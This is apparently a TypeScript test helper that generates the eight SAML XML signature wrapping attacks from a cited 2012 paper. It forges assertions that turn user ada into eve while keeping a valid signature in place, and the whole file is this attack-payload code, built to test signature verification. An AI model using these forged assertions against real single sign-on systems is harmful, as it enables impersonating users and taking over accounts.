import { ASSERTION, make, part, responseAround, type Signed, swap } from './identity-provider.ts';

/**
 * Signature wrapping 1 to 8 (Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be", 2012): the signed
 * original goes where its signature is still found to hold, and a forged copy goes where it is read.
 */

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;
const forge = (assertion: string) => assertion.replaceAll('ada@example.com', 'eve@example.com');
const FORGED = forge(ASSERTION);
const renamed = (xml: string, id: string) => swap(xml, /ID="_(assertion|response)"/, `ID="${id}"`);

interface Signatures {
  readonly original: string;
  readonly signature: string;
  readonly bare: string;
}

/** The signed original with its parts. */
function taken(xml: string, element: RegExp): Signatures {
  const original = part(xml, element);
  const signature = part(original, SIGNATURE);
  return { original, signature, bare: swap(original, SIGNATURE, '') };
}

const into = (signature: string, inner: string) =>
  swap(signature, '</ds:Signature>', `${inner}</ds:Signature>`);

type Wrapping = (signed: Signatures) => string;

/** Of a signed response: what is posted in its place. */
const OF_RESPONSES: readonly Wrapping[] = [
  ({ signature, bare }) => putIn(renamed(responseAround(FORGED), '_forged'), into(signature, bare)),
  ({ signature, bare }) => putIn(renamed(responseAround(FORGED), '_forged'), bare + signature),
];

/** Of a signed assertion: what stands in the response in its place. */
const OF_ASSERTIONS: readonly Wrapping[] = [
  ({ original }) => renamed(FORGED, '_forged') + original,
  ({ original }) => swap(renamed(FORGED, '_forged'), '</saml:Assertion>', `${original}</saml:Assertion>`),
  ({ signature, bare }) => putIn(renamed(FORGED, '_forged'), signature) + bare,
  ({ signature, bare }) => putIn(renamed(FORGED, '_forged'), into(signature, bare)),
  ({ original }) => `<samlp:Extensions>${FORGED}</samlp:Extensions>${original}`,
  ({ signature, bare }) =>
    putIn(renamed(FORGED, '_forged'), into(signature, `<ds:Object>${bare}</ds:Object>`)),
];

const putIn = (xml: string, signature: string) => swap(xml, '</saml:Issuer>', `</saml:Issuer>${signature}`);

/** All wrappings of all ways of signing, and the copies that keep the original's ID. */
export function wrappings(): [name: string, xml: string][] {
  const found: [string, string][] = [];
  for (const signed of ['response', 'both'] satisfies Signed[]) {
    const xml = make({ signed });
    const parts = taken(xml, /<samlp:Response.*<\/samlp:Response>/s);
    for (const [index, wrap] of OF_RESPONSES.entries()) {
      found.push([`wrapping ${index + 1}, signed ${signed}`, wrap(parts)]);
    }
  }
  for (const signed of ['assertion', 'both'] satisfies Signed[]) {
    const xml = make({ signed });
    const parts = taken(xml, /<saml:Assertion.*<\/saml:Assertion>/s);
    for (const [index, wrap] of OF_ASSERTIONS.entries()) {
      const name = `wrapping ${index + 3}, signed ${signed}`;
      found.push([name, swap(xml, parts.original, wrap(parts))]);
      found.push([
        `${name}, the ID kept`,
        swap(xml, parts.original, wrap(parts).replace('_forged', '_assertion')),
      ]);
    }
  }
  return found;
}
